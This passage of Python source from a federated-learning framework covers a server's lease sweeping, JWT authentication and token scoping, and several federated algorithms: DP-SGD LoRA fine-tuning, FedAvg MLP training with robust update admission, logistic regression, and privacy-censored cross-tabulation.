                lease_expires_at=now + self.lease_ttl,
                started_at=None,
                # new attempt: the old claimant's late PATCHes (status
                # or result) now carry a stale attempt number and are
                # rejected — a requeued run's result can never be
                # double-delivered (see run_patch)
                attempt=(run["attempt"] or 0) + 1,
            )
            if not flipped:
                continue  # node reported a terminal status in the race
            self.metrics.counter(
                "v6_lease_sweeps_total",
                "expired-lease runs handled by the sweeper",
            ).inc(outcome="requeued")
            log.warning(
                "run %s lease expired (node lost?); requeued with %d "
                "retr%s left", run["id"], remaining - 1,
                "y" if remaining - 1 == 1 else "ies",
            )
            self._emit_run_status(run, TaskStatus.PENDING.value)
            # surviving/restarted nodes treat this exactly like a new
            # fan-out: the runs map lets them claim straight off the push
            self.events.emit(
                EVENT_NEW_TASK,
                {"task_id": run["task_id"],
                 "parent_id": run["parent_id"],
                 "job_id": run["job_id"],
                 "collaboration_id": run["collaboration_id"],
                 "organization_ids": [run["organization_id"]],
                 "runs": {str(run["organization_id"]): run["id"]}},
                [collaboration_room(run["collaboration_id"])],
            )
        # housekeeping that rides the sweep: idempotency keys older than
        # a day can no longer be meaningfully replayed
        self.db.delete("idempotency_key", "created_at < ?", (now - 86400,))
        # metrics-snapshot retention: live workers re-persist every
        # housekeeping tick and nodes every heartbeat, so a row that
        # went metrics_retention_s without a refresh is a dead worker
        # incarnation (random worker_id restart) or a long-gone node —
        # reap it before it double-counts fleet totals forever and
        # grows the table without bound
        reaped = self.db.metrics_prune(now - self.metrics_retention_s)
        if reaped:
            log.info("reaped %d stale metrics snapshot(s)", reaped)
        # span retention: age out old timelines, then enforce the hard
        # row cap (oldest first) so a chatty network can't grow the
        # table without bound
        self.db.delete("span", "created_at < ?",
                       (now - self.span_retention_s,))
        over = self.db.one("SELECT COUNT(*) AS n FROM span")
        excess = (over["n"] if over else 0) - self.span_max_rows
        if excess > 0:
            self.db.execute(
                "DELETE FROM span WHERE id IN "
                "(SELECT id FROM span ORDER BY id LIMIT ?)",
                (excess,),
            )

    # --- auth -----------------------------------------------------------
    def _auth_middleware(self, req: Request) -> None:
        if req.path == "/" or req.path == "/app" or \
                req.path.startswith("/app/"):
            return  # static web-UI assets; no auth, path left untouched
        if not req.path.startswith(self.api_path):
            raise HTTPError(404, "not under api path")
        req.path = req.path[len(self.api_path):] or "/"
        auth = req.headers.get("authorization", "")
        if req.path in OPEN_ENDPOINTS:
            # open endpoints still see the identity when one is presented
            # (e.g. admin-assisted password recovery)
            if auth.startswith("Bearer "):
                try:
                    req.identity = v6jwt.decode(auth[7:], self.jwt_secret)
                except v6jwt.JWTError:
                    req.identity = None
                if req.identity and req.identity.get("aud"):
                    req.identity = None  # audience-scoped ≠ session
            return
        if not auth.startswith("Bearer "):
            raise HTTPError(401, "missing bearer token")
        try:
            req.identity = v6jwt.decode(auth[7:], self.jwt_secret)
        except v6jwt.JWTError as e:
            raise HTTPError(401, f"invalid token: {e}")
        # Audience-scoped vouch tokens (aud=store) are introspection-only:
        # a linked store replaying one reaches nothing but /user/current.
        if req.identity.get("aud") and req.path != "/user/current":
            raise HTTPError(
                403, "token is audience-restricted to identity introspection"
            )

    # --- token builders --------------------------------------------------
    def user_token(self, user_id: int) -> str:
        return v6jwt.encode(
            {"sub": user_id, "client_type": IDENTITY_USER}, self.jwt_secret,
            expires_in=self.token_expiry_s,
        )

    def vouch_token(self, user_id: int) -> str:
        """Short-lived audience-scoped token for third-party algorithm
        stores: proves *who the user is* via GET /user/current but is
        rejected by every other endpoint, so a malicious store that
        replays it cannot act on the server as the user (the reference
        forwards the full session JWT — SURVEY.md §2.1 algorithm-store
        row; this closes that hole)."""
        return v6jwt.encode(
            {"sub": user_id, "client_type": IDENTITY_USER, "aud": "store"},
            self.jwt_secret,
            expires_in=min(300.0, self.token_expiry_s),
        )

    def node_token(self, node: dict) -> str:
        return v6jwt.encode(
            {
                "sub": node["id"],
                "client_type": IDENTITY_NODE,
                "organization_id": node["organization_id"],
                "collaboration_id": node["collaboration_id"],
            },
            self.jwt_secret,
            expires_in=self.token_expiry_s,
        )

    def container_token(self, node_claims: dict, task: dict, image: str) -> str:
        return v6jwt.encode(
            {
                "sub": task["id"],
                "client_type": IDENTITY_CONTAINER,
                "task_id": task["id"],
                "image": image,
                "node_id": node_claims["sub"],
                "organization_id": node_claims["organization_id"],
                "collaboration_id": node_claims["collaboration_id"],
            },
            self.jwt_secret,
            expires_in=self.token_expiry_s,
        )

    @property
    def version(self) -> str:
        return __version__
