"""DP-SGD federated fine-tune with LoRA adapter exchange (BASELINE
config #5).

Workers hold a frozen base MLP; only low-rank adapters (A_i B_i per
dense layer) train and travel. Local steps are DP-SGD: per-example
adapter grads (``jax.vmap`` over the grad), clipped to a global-norm
bound C, summed, Gaussian-noised with σC, averaged — all inside one jit
(per-example clipping is the vmap'd hot loop SURVEY.md §2.3 calls out
for NeuronCores). The server/central algorithm FedAvg-combines adapters
only — the base never moves after round 0.

Privacy accounting: simple Gaussian-mechanism composition over
(steps × rounds); reported as ``noise_multiplier``/``steps`` plus an
approximate (ε, δ) via the standard composition bound — callers needing
tight RDP accounting should post-process these counters.
"""

from __future__ import annotations

import functools
import math
from typing import Sequence

import jax
import jax.numpy as jnp
import numpy as np

from vantage6_trn import models
from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.models import mlp
from vantage6_trn.ops.aggregate import fedavg_params


def init_adapters(base: dict, rank: int = 4, seed: int = 0) -> dict:
    """LoRA pairs per dense layer: ΔW_i = A_i @ B_i, B zero-init."""
    rng = np.random.default_rng(seed)
    adapters = {}
    n = mlp._n_layers(base)
    for i in range(n):
        d_in, d_out = base[f"w{i}"].shape
        adapters[f"A{i}"] = (
            rng.normal(size=(d_in, rank)) / math.sqrt(d_in)
        ).astype(np.float32)
        adapters[f"B{i}"] = np.zeros((rank, d_out), np.float32)
    return adapters


def effective_params(base: dict, adapters: dict) -> dict:
    out = dict(base)
    n = mlp._n_layers(base)
    for i in range(n):
        out[f"w{i}"] = base[f"w{i}"] + adapters[f"A{i}"] @ adapters[f"B{i}"]
    return out


def _loss_one(adapters, base, x_row, y_row):
    params = effective_params(base, adapters)
    logits = mlp.forward(params, x_row[None, :])
    logp = jax.nn.log_softmax(logits)[0]
    return -logp[y_row]


@functools.partial(jax.jit, static_argnames=("epochs",))
def _dpsgd_steps(adapters, base, x, y, lr, clip, noise_mult, key,
                 epochs: int):
    per_ex_grad = jax.vmap(jax.grad(_loss_one), in_axes=(None, None, 0, 0))
    n = x.shape[0]

    def one(carry, k):
        adapters, = carry
        g = per_ex_grad(adapters, base, x, y)     # leaves [n, ...]
        # global-norm clip per example
        flat = jax.tree_util.tree_leaves(g)
        norms = jnp.sqrt(
            sum(jnp.sum(v.reshape(n, -1) ** 2, axis=1) for v in flat)
        )
        scale = jnp.minimum(1.0, clip / jnp.clip(norms, 1e-12))
        g = jax.tree_util.tree_map(
            lambda v: v * scale.reshape((n,) + (1,) * (v.ndim - 1)), g
        )
        summed = jax.tree_util.tree_map(lambda v: jnp.sum(v, axis=0), g)
        keys = jax.random.split(k, len(flat))
        noised = jax.tree_util.tree_map(
            lambda v, kk: v + noise_mult * clip * jax.random.normal(
                kk, v.shape, v.dtype
            ),
            summed,
            jax.tree_util.tree_unflatten(
                jax.tree_util.tree_structure(summed), list(keys)
            ),
        )
        adapters = jax.tree_util.tree_map(
            lambda a, v: a - lr * v / n, adapters, noised
        )
        return (adapters,), None

    keys = jax.random.split(key, epochs)
    (adapters,), _ = jax.lax.scan(one, (adapters,), keys)
    return adapters


@data(1)
def partial_fit_dpsgd(
    df: Table,
    base: dict,
    adapters: dict,
    label: str = "label",
    features: Sequence[str] | None = None,
    lr: float = 0.1,
    clip: float = 1.0,
    noise_multiplier: float = 1.0,
    epochs: int = 1,
    seed: int = 0,
) -> dict:
    x, y, _ = mlp._feature_matrix(df, label, features)
    base_j = jax.tree_util.tree_map(jnp.asarray, base)
    ad_j = jax.tree_util.tree_map(jnp.asarray, adapters)
    # DP noise MUST NOT be keyed by the task-supplied seed: that seed is
    # known to every org and the coordinator, who could regenerate and
    # subtract the noise exactly. `seed` is accepted for API compat and
    # non-privacy uses only; the noise key comes from local OS entropy.
    del seed
    out = _dpsgd_steps(
        ad_j, base_j, jnp.asarray(x), jnp.asarray(y),
        jnp.float32(lr), jnp.float32(clip), jnp.float32(noise_multiplier),
        models.local_noise_key(), int(epochs),
    )
    return {
        "weights": {k: np.asarray(v) for k, v in out.items()},
        "n": int(len(y)),
        "dp": {"noise_multiplier": noise_multiplier, "clip": clip,
               "steps": int(epochs), "batch": int(len(y))},
    }


def approx_epsilon(noise_multiplier: float, total_steps: int,
                   delta: float = 1e-5) -> float:
    """Gaussian-mechanism advanced composition (loose upper bound)."""
    if noise_multiplier <= 0:
        return float("inf")
    eps_step = math.sqrt(2 * math.log(1.25 / delta)) / noise_multiplier
    return eps_step * math.sqrt(2 * total_steps * math.log(1 / delta)) + \
        total_steps * eps_step * (math.exp(eps_step) - 1)


@algorithm_client
def fit_lora(
    client,
    label: str = "label",
    features: Sequence[str] | None = None,
    hidden: Sequence[int] = (64,),
    n_classes: int = 10,
    n_features: int | None = None,
    rank: int = 4,
    rounds: int = 3,
    lr: float = 0.1,
    clip: float = 1.0,
    noise_multiplier: float = 1.0,
    epochs_per_round: int = 1,
    delta: float = 1e-5,
    base_weights: dict | None = None,
    organizations: Sequence[int] | None = None,
) -> dict:
    """Central DP-SGD LoRA driver: only adapters travel after round 0."""
    orgs = organizations or [o["id"] for o in client.organization.list()]
    if base_weights is None:
        if n_features is None:
            raise ValueError("n_features required when no base_weights given")
        base_weights = mlp.init_params([n_features, *hidden, n_classes])
    adapters = init_adapters(base_weights, rank=rank)
    history = []
    for rnd in range(rounds):
        task = client.task.create(
            input_=make_task_input(
                "partial_fit_dpsgd",
                kwargs={"base": base_weights, "adapters": adapters,
                        "label": label,
                        "features": list(features) if features else None,
                        "lr": lr, "clip": clip,
                        "noise_multiplier": noise_multiplier,
                        "epochs": epochs_per_round, "seed": rnd},
            ),
            organizations=orgs, name="dpsgd-lora",
        )
        partials = [r for r in client.wait_for_results(task["id"]) if r]
        adapters = fedavg_params(partials)
        history.append({"n": sum(p["n"] for p in partials)})
    total_steps = rounds * epochs_per_round
    return {
        "adapters": adapters,
        "base": base_weights,
        "rounds": rounds,
        "dp": {
            "noise_multiplier": noise_multiplier, "clip": clip,
            "total_steps": total_steps, "delta": delta,
            "epsilon_approx": approx_epsilon(
                noise_multiplier, total_steps, delta
            ),
        },
        "history": history,
    }


@algorithm_client
def evaluate_lora(client, base: dict, adapters: dict, label: str = "label",
                  features: Sequence[str] | None = None,
                  organizations: Sequence[int] | None = None) -> dict:
    merged = effective_params(
        jax.tree_util.tree_map(np.asarray, base),
        jax.tree_util.tree_map(np.asarray, adapters),
    )
    return mlp.evaluate(
        client, merged, label=label, features=features,
        organizations=organizations,
    )
