"""FedAvg MLP (BASELINE config #3 — the north-star model: MNIST, 10
nodes, encrypted payloads, server-side compiled aggregation).

Worker local training is SPMD over the node's NeuronCores
(``parallel.make_data_parallel_fit``): batch shards per core, grad
AllReduce over NeuronLink, replicated update. One compiled program per
(shape, steps) — reused every round (the reference pays container
cold-start + CPU numpy here, SURVEY.md §3.1).
"""

from __future__ import annotations

import functools
import logging
from typing import Sequence

import jax
import jax.numpy as jnp
import numpy as np

from vantage6_trn import models
from vantage6_trn.algorithm.decorators import algorithm_client, data, metadata
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.rounds import (
    RoundPolicy,
    iter_round,
    run_async_rounds,
    run_pipelined_rounds,
)
from vantage6_trn.common.serialization import (
    DELTA_HINT_KEY,
    DeltaTracker,
    make_task_input,
    remember_base,
)
from vantage6_trn.ops.admission import (
    AdmissionPolicy,
    NormTracker,
    Quarantine,
    UpdateRejected,
    empty_round,
)
from vantage6_trn.ops.aggregate import FedAvgStream
from vantage6_trn.parallel.mesh import (
    data_parallel_mesh,
    make_data_parallel_fit,
    shard_batch,
)

log = logging.getLogger(__name__)


def init_params(sizes: Sequence[int], seed: int = 0) -> dict:
    """sizes = [in, hidden..., out]; He-init dense stack."""
    rng = np.random.default_rng(seed)
    params = {}
    for i, (fan_in, fan_out) in enumerate(zip(sizes[:-1], sizes[1:])):
        params[f"w{i}"] = (
            rng.normal(size=(fan_in, fan_out)) * np.sqrt(2.0 / fan_in)
        ).astype(np.float32)
        params[f"b{i}"] = np.zeros((fan_out,), np.float32)
    return params


def _n_layers(params: dict) -> int:
    return sum(1 for k in params if k.startswith("w"))


def forward(params: dict, x: jnp.ndarray) -> jnp.ndarray:
    n = _n_layers(params)
    h = x
    for i in range(n - 1):
        h = jax.nn.relu(h @ params[f"w{i}"] + params[f"b{i}"])
    return h @ params[f"w{n - 1}"] + params[f"b{n - 1}"]


def loss_fn(params: dict, x: jnp.ndarray, y: jnp.ndarray) -> jnp.ndarray:
    logits = forward(params, x)
    logp = jax.nn.log_softmax(logits)
    return -jnp.mean(jnp.take_along_axis(logp, y[:, None], axis=1))


@functools.lru_cache(maxsize=32)
def _compiled_fit(cores: tuple, steps: int):
    # cores are scheduler grant indices (or the legacy rotation from
    # models.placement_cores) — identical core sets share one program
    mesh = data_parallel_mesh(devices=models.devices_for_cores(cores))
    return mesh, make_data_parallel_fit(loss_fn, mesh, steps)


# Device-resident training data cache: a node's table is immutable for
# the daemon's lifetime, so shard it onto the mesh once and reuse every
# round (the per-round payload is only the ~0.5 MB weights).
_data_cache: dict[tuple, tuple] = {}

# Host→device cache for the *global* weights: every worker at a node
# receives the identical weight payload each round, so only the first
# dispatch pays the H2D transfer (content-addressed by digest).
_weights_cache: dict[str, dict] = {}


def _device_weights(weights: dict) -> dict:
    import hashlib

    h = hashlib.blake2b(digest_size=16)
    for k in sorted(weights):
        arr = np.ascontiguousarray(np.asarray(weights[k]))
        h.update(k.encode())
        h.update(arr.tobytes())
    key = h.hexdigest()
    hit = _weights_cache.get(key)
    if hit is None:
        hit = jax.tree_util.tree_map(jnp.asarray, dict(weights))
        if len(_weights_cache) > 8:
            _weights_cache.clear()
        _weights_cache[key] = hit
    return hit


def _sharded_data(mesh, df: Table, x: np.ndarray, y: np.ndarray,
                  cache_key: tuple):
    key = (id(df), *cache_key)
    hit = _data_cache.get(key)
    if hit is None:
        hit = shard_batch(mesh, x, y)
        if len(_data_cache) > 64:
            _data_cache.clear()
        _data_cache[key] = hit
    return hit


def _feature_matrix(df: Table, label: str,
                    features: Sequence[str] | None):
    cols = list(features) if features else [
        c for c in df.columns
        if c != label and np.issubdtype(df[c].dtype, np.number)
    ]
    x = df.to_matrix(cols)
    y = np.asarray(df[label], np.int32)
    return x, y, cols


@data(1)
def partial_fit(
    df: Table,
    weights: dict | None,
    label: str = "label",
    features: Sequence[str] | None = None,
    hidden: Sequence[int] = (128,),
    n_classes: int = 10,
    lr: float = 0.1,
    epochs: int = 5,
    data_parallel: int = 0,
) -> dict:
    """Worker: `epochs` full-batch steps, sharded over NeuronCores."""
    x, y, cols = _feature_matrix(df, label, features)
    weights_in = weights  # pre-training weights, for the uplink delta hint
    if weights is None:
        weights = init_params([x.shape[1], *hidden, n_classes])
    pref = models.preferred_device_index()
    if data_parallel:
        n_dev = data_parallel
    elif pref is not None:
        # runtime pinned this node to one core: run there so co-hosted
        # nodes execute concurrently instead of serializing 8-core
        # shard_maps on the shared chip
        n_dev = 1
    else:
        n_dev = min(len(jax.devices()), 8)
    n_dev = max(1, min(n_dev, x.shape[0]))
    with models.mesh_execution_slot(n_dev):
        # placement inside the slot: an exclusive-window upgrade widens
        # the lease's granted set, and the mesh must build on the
        # window's cores, not the pre-window grant
        cores = models.placement_cores(n_dev, start=pref or 0)
        mesh, step_fn = _compiled_fit(cores, int(epochs))
        xs, ys = _sharded_data(mesh, df, x, y,  # noqa: V6L012 - the slot exists to serialize device work: co-hosted multi-device launches deadlock the XLA executor pool (PR 4)
                               (cores, label, tuple(cols)))
        params = _device_weights(weights)
        params, loss = step_fn(params, xs, ys, jnp.float32(lr))
        # scalars before the first layer moves: shard_batch truncates
        # to a multiple of the mesh size (trained depends on n_dev),
        # and a streaming layer sink seals them into the V6BN header
        # ahead of the frame bytes
        trained = (x.shape[0] // n_dev) * n_dev
        loss = float(loss)
        weights_host = models.stream_layers(  # noqa: V6L012 - per-layer D2H transfer; holding the slot through it is the point — it IS the device work being serialized
            params, {"n": int(trained), "loss": loss})
    out = {
        "weights": {k: np.asarray(v) for k, v in weights_host.items()},
        "n": int(trained),
        "loss": loss,
    }
    if weights_in is not None and not models.layer_stream_active():
        # uplink delta hint: the node daemon XOR-encodes the trained
        # weights against the weights this round started from (the
        # driver holds them too) — only when the downlink negotiated
        # delta frames. Popped daemon-side; never reaches the wire.
        # Skipped while a layer sink streams this result: the sealed
        # frame layout cannot carry delta frames.
        out[DELTA_HINT_KEY] = {"weights": weights_in}
    return out


@data(1)
def partial_evaluate(df: Table, weights: dict, label: str = "label",
                     features: Sequence[str] | None = None) -> dict:
    x, y, _ = _feature_matrix(df, label, features)
    logits = np.asarray(forward(
        jax.tree_util.tree_map(jnp.asarray, weights), jnp.asarray(x)
    ))
    pred = logits.argmax(axis=1)
    return {"n": int(len(y)), "correct": float(np.sum(pred == y))}


@algorithm_client
@metadata
def fit(
    client,
    meta=None,
    label: str = "label",
    features: Sequence[str] | None = None,
    hidden: Sequence[int] = (128,),
    n_classes: int = 10,
    rounds: int = 5,
    lr: float = 0.1,
    epochs_per_round: int = 5,
    data_parallel: int = 0,
    organizations: Sequence[int] | None = None,
    use_bass_aggregation: bool = False,
    aggregation: str | None = None,   # 'jax' | 'bass' | 'nki'
    round_policy: dict | str | None = None,  # see common.rounds
    robust: dict | str | None = None,  # see ops.admission
) -> dict:
    """Central FedAvg driver for the MLP.

    Checkpoints (weights, round) into the job scratch dir each round, so
    a re-dispatched run resumes instead of restarting (SURVEY.md §5.4).

    ``round_policy`` selects the straggler treatment (``common.rounds``):
    sync barrier (default), ``{"mode": "quorum", "quorum": K,
    "deadline_s": D}`` early-close rounds, or ``{"mode": "async", ...}``
    buffered asynchronous FedAvg with staleness-weighted accumulation.

    ``robust`` arms byzantine-robust aggregation (``ops.admission``):
    ``'none'``/``'clip'`` gate or clip every update before it can touch
    the global model (all round policies); ``'trimmed_mean'``/
    ``'median'`` switch the combine to the coordinate-wise robust
    reduction (sync/quorum only). Repeatedly-rejected orgs are
    quarantined out of the dispatch cohort until a cool-down expires.
    """
    from vantage6_trn.algorithm.state import clear_state, load_state, save_state

    policy = RoundPolicy.from_spec(round_policy)
    adm = AdmissionPolicy.from_spec(robust)
    orgs = organizations or [o["id"] for o in client.organization.list()]
    agg_method = aggregation or ("bass" if use_bass_aggregation else None)

    def _fit_input(w):
        input_ = make_task_input(
            "partial_fit",
            kwargs={
                "weights": w, "label": label,
                "features": list(features) if features else None,
                "hidden": list(hidden), "n_classes": n_classes,
                "lr": lr, "epochs": epochs_per_round,
                "data_parallel": data_parallel,
            },
        )
        if w is not None:
            # base for the workers' uplink deltas (DELTA_HINT_KEY in
            # partial_fit): same tree shape, so digests line up
            remember_base({"weights": w})
        return input_

    if policy.mode == "async":
        # timer-driven global model: no per-round barrier, hence no
        # per-round checkpoint either — an async "round" is an advance
        # of the buffered accumulator, not a completed cohort pass
        out = run_async_rounds(
            client, orgs=orgs, rounds=rounds, policy=policy,
            make_input=_fit_input, name="mlp-partial-fit",
            aggregation=agg_method, robust=adm,
        )
        return {"weights": out["weights"], "history": out["history"],
                "rounds": rounds, "resumed_from_round": 0,
                "aggregation_backend": out["backend"],
                "round_policy": policy.to_dict(),
                "async_stats": out["stats"]}

    weights = None
    history = []
    resumed_from = 0
    agg_backend = None
    ckpt = load_state(meta, "mlp_fit") if meta is not None else None
    if ckpt and ckpt.get("rounds_done", 0) < rounds:
        weights = ckpt["weights"]
        history = ckpt["history"]
        resumed_from = ckpt["rounds_done"]
    # per-round delta negotiation: inputs ship as XOR deltas against the
    # previous round's input once every org acked holding it, and the
    # workers' uplinks delta against the weights they trained from
    tracker = DeltaTracker()
    if policy.speculate:
        # pipelined driver: round r+1 dispatches speculatively against
        # the provisional mean while round r's laggards drain, per-frame
        # fused folds (FedAvgStream.add_payload) — common/rounds.py
        prior = list(history)

        def _checkpoint(_r, w, hist):
            if meta is not None:
                save_state(meta, "mlp_fit", {
                    "weights": w, "history": prior + hist,
                    "rounds_done": resumed_from + len(hist),
                })

        out = run_pipelined_rounds(
            client, orgs=orgs, rounds=rounds - resumed_from,
            policy=policy, make_input=_fit_input, init_weights=weights,
            name="mlp-partial-fit", aggregation=agg_method,
            tracker=tracker, on_round=_checkpoint, robust=adm,
        )
        if meta is not None:
            clear_state(meta, "mlp_fit")
        return {"weights": out["weights"],
                "history": prior + out["history"], "rounds": rounds,
                "resumed_from_round": resumed_from,
                "aggregation_backend": out["backend"],
                "round_policy": policy.to_dict(),
                "speculation": out["stats"]}
    norms = NormTracker(adm.history_cap) if adm is not None else None
    quarantine = (Quarantine(adm.quarantine_after, adm.quarantine_rounds)
                  if adm is not None else None)
    for rnd in range(resumed_from, rounds):
        cohort = (quarantine.cohort(orgs, rnd)
                  if quarantine is not None else orgs)
        if not cohort:
            raise empty_round(
                "sync", f"round {rnd}: entire cohort quarantined"
            )
        input_ = _fit_input(weights)
        task = client.task.create(
            input_=input_,
            organizations=cohort,
            name="mlp-partial-fit",
            delta_base=tracker.base(cohort),
        )
        # pass the participants: under a quorum close some orgs never
        # ack this round's input, and the next delta base must then
        # fall back to dense instead of assuming they hold it
        tracker.sent(input_, cohort)
        # stream: open + upload each worker's update as it arrives, so
        # the combine overlaps the straggler window and the post-last-
        # arrival path is one dispatch + one D2H (ops.aggregate)
        stream = FedAvgStream(method=agg_method, admission=adm,
                              norm_tracker=norms)
        total, loss_sum = 0, 0.0
        for item in iter_round(client, task["id"], policy):
            p = item["result"]
            tracker.ack(item["organization_id"], p)
            if not p:
                continue
            try:
                stream.add(p["weights"], p["n"])
            except UpdateRejected as e:
                org = item["organization_id"]
                if (quarantine is not None
                        and quarantine.strike(org, rnd)):
                    log.warning("round %d: org %s quarantined after "
                                "rejected update: %s", rnd, org, e)
                else:
                    log.warning("round %d: update from org %s "
                                "rejected: %s", rnd, org, e)
                continue
            total += p["n"]
            loss_sum += p["loss"] * p["n"]
        if not total:
            if stream.rejected:
                raise empty_round(
                    "sync",
                    f"round {rnd}: all {stream.rejected} updates were "
                    "rejected by admission — refusing to hold a "
                    "fully-byzantine round",
                )
            # a deadline close can beat every worker: keep the current
            # global model rather than dividing by zero, and record the
            # empty round so the caller sees the stall
            history.append({"loss": None, "n": 0})
            continue
        weights = stream.finish()
        agg_backend = stream.backend
        history.append({"loss": float(loss_sum / total), "n": total})
        if meta is not None:
            save_state(meta, "mlp_fit", {
                "weights": weights, "history": history,
                "rounds_done": len(history),
            })
    if meta is not None:
        clear_state(meta, "mlp_fit")
    return {"weights": weights, "history": history, "rounds": rounds,
            "resumed_from_round": resumed_from,
            # None when every round came from the checkpoint (no stream
            # ran in this dispatch)
            "aggregation_backend": agg_backend,
            "round_policy": policy.to_dict()}


@algorithm_client
def evaluate(client, weights: dict, label: str = "label",
             features: Sequence[str] | None = None,
             organizations: Sequence[int] | None = None) -> dict:
    orgs = organizations or [o["id"] for o in client.organization.list()]
    task = client.task.create(
        input_=make_task_input(
            "partial_evaluate",
            kwargs={"weights": weights, "label": label,
                    "features": list(features) if features else None},
        ),
        organizations=orgs,
        name="mlp-evaluate",
    )
    partials = [p for p in client.wait_for_results(task["id"]) if p]
    n = sum(p["n"] for p in partials)
    return {"accuracy": sum(p["correct"] for p in partials) / n, "n": n}
