"""Federated logistic regression, horizontal split (BASELINE config #2).

Master/worker FedAvg pattern (SURVEY.md §3.1): the central function runs
rounds of [fan out ``partial_fit`` → aggregate weighted mean]; workers run
a jit-compiled local training loop on their partition. The local loop is a
``lax.scan`` over full-batch gradient steps — one fixed-shape XLA program
per node, compiled once by neuronx-cc and reused every round.
"""

from __future__ import annotations

import functools
from typing import Sequence

import jax
import jax.numpy as jnp
import numpy as np

from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.ops.aggregate import fedavg_params


def init_params(n_features: int) -> dict:
    return {
        "w": np.zeros((n_features,), np.float32),
        "b": np.zeros((), np.float32),
    }


def _loss(params, x, y, l2):
    logits = x @ params["w"] + params["b"]
    nll = jnp.mean(jnp.logaddexp(0.0, logits) - y * logits)
    return nll + 0.5 * l2 * jnp.sum(params["w"] ** 2)


@functools.partial(jax.jit, static_argnames=("epochs",))
def _local_fit(params, x, y, lr, l2, epochs: int):
    grad_fn = jax.grad(_loss)

    def step(p, _):
        g = grad_fn(p, x, y, l2)
        p = jax.tree_util.tree_map(lambda a, b: a - lr * b, p, g)
        return p, None

    params, _ = jax.lax.scan(step, params, None, length=epochs)
    return params, _loss(params, x, y, l2)


@data(1)
def partial_fit(
    df: Table,
    weights: dict | None,
    features: Sequence[str],
    label: str,
    lr: float = 0.1,
    l2: float = 0.0,
    epochs: int = 10,
) -> dict:
    """Worker: `epochs` local gradient steps from the global weights."""
    x = jnp.asarray(df.to_matrix(features))
    y = jnp.asarray(np.asarray(df[label], np.float32))
    params = weights if weights is not None else init_params(len(features))
    params = jax.tree_util.tree_map(jnp.asarray, params)
    params, loss = _local_fit(params, x, y, jnp.float32(lr), jnp.float32(l2),
                              epochs)
    return {
        "weights": {k: np.asarray(v) for k, v in params.items()},
        "n": len(df),
        "loss": float(loss),
    }


@data(1)
def partial_evaluate(df: Table, weights: dict, features: Sequence[str],
                     label: str) -> dict:
    """Worker: local accuracy/loss under the global model."""
    x = df.to_matrix(features)
    y = np.asarray(df[label], np.float32)
    logits = x @ np.asarray(weights["w"]) + np.asarray(weights["b"])
    pred = (logits > 0).astype(np.float32)
    return {
        "n": len(df),
        "correct": float(np.sum(pred == y)),
        "loss": float(np.mean(np.logaddexp(0.0, logits) - y * logits)),
    }


@algorithm_client
def fit(
    client,
    features: Sequence[str],
    label: str,
    rounds: int = 5,
    lr: float = 0.1,
    l2: float = 0.0,
    epochs_per_round: int = 10,
    organizations: Sequence[int] | None = None,
) -> dict:
    """Central: FedAvg rounds over all (or the given) organizations."""
    orgs = organizations or [o["id"] for o in client.organization.list()]
    weights = init_params(len(features))
    history = []
    for _ in range(rounds):
        task = client.task.create(
            input_=make_task_input(
                "partial_fit",
                kwargs={
                    "weights": weights, "features": list(features),
                    "label": label, "lr": lr, "l2": l2,
                    "epochs": epochs_per_round,
                },
            ),
            organizations=orgs,
            name="partial_fit",
        )
        partials = client.wait_for_results(task["id"])
        weights = fedavg_params(partials)
        total_n = sum(p["n"] for p in partials)
        history.append({
            "loss": float(sum(p["loss"] * p["n"] for p in partials) / total_n),
            "n": total_n,
        })
    return {"weights": weights, "history": history, "rounds": rounds}


@algorithm_client
def evaluate(client, weights: dict, features: Sequence[str], label: str,
             organizations: Sequence[int] | None = None) -> dict:
    orgs = organizations or [o["id"] for o in client.organization.list()]
    task = client.task.create(
        input_=make_task_input(
            "partial_evaluate",
            kwargs={"weights": weights, "features": list(features),
                    "label": label},
        ),
        organizations=orgs,
        name="partial_evaluate",
    )
    partials = client.wait_for_results(task["id"])
    n = sum(p["n"] for p in partials)
    return {
        "accuracy": sum(p["correct"] for p in partials) / n,
        "loss": sum(p["loss"] * p["n"] for p in partials) / n,
        "n": n,
    }
