"""Federated contingency tables (cross-tabulation).

Parity target: the reference's community ``v6-crosstab-py`` algorithm
(SURVEY.md §2.2 'data parallelism' row — workers emit partial counts,
the central function combines them additively, so the federated table
equals the pooled table). Compute is integer counting — far below the
threshold where a device kernel pays for itself — so this stays in
numpy by design; the federation pattern, not the arithmetic, is the
point of this algorithm.

Privacy: each worker censors cells smaller than ``min_cell`` BEFORE
anything leaves the node (the reference's per-cell privacy threshold,
which the *data-station admin* sets node-side via env var). The
researcher's ``min_cell`` kwarg can only raise the bar: it is floored
with the node policy ``policies.min_cell`` (``V6_POLICY_MIN_CELL`` in
the sandbox contract) so the party the suppression protects against
never controls it. A censored cell contributes nothing to the
federated sum; the central table marks it so the combined count is
reported honestly as a lower bound rather than a wrong exact value.

Missing values (float NaN, ``None``, empty strings) are dropped before
counting — matching the reference's pandas-crosstab default — so the
federated table agrees with the pooled table on datasets with holes;
``n`` counts only rows where both variables are present.
"""

from __future__ import annotations

from typing import Sequence

import numpy as np

from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.policy import node_policy_int
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input

SUPPRESSED = -1  # wire marker: cell existed but was below min_cell


def _present_mask(values: np.ndarray) -> np.ndarray:
    """True where a value is present (not NaN / None / empty string)."""
    if np.issubdtype(values.dtype, np.floating):
        return ~np.isnan(values)
    if values.dtype.kind in ("U", "S"):
        return values != ("" if values.dtype.kind == "U" else b"")
    if values.dtype == object:
        return np.asarray(
            [v is not None and v == v and v != "" for v in values], bool
        )
    return np.ones(len(values), bool)


@data(1)
def partial_crosstab(df: Table, row_var: str, col_var: str,
                     min_cell: int = 0) -> dict:
    """Worker: local contingency table of ``row_var`` × ``col_var``.

    Returns labels (as strings — category identity must survive JSON)
    and the count matrix, with cells in (0, min_cell) replaced by
    ``SUPPRESSED``. Zero cells stay 0: "no such combination here" does
    not identify anyone, while a small positive count can.
    """
    for var in (row_var, col_var):
        if var not in df:
            raise ValueError(f"no such column: {var!r}")
    # the node's suppression floor wins over the researcher's request
    min_cell = max(int(min_cell), node_policy_int("min_cell") or 0)
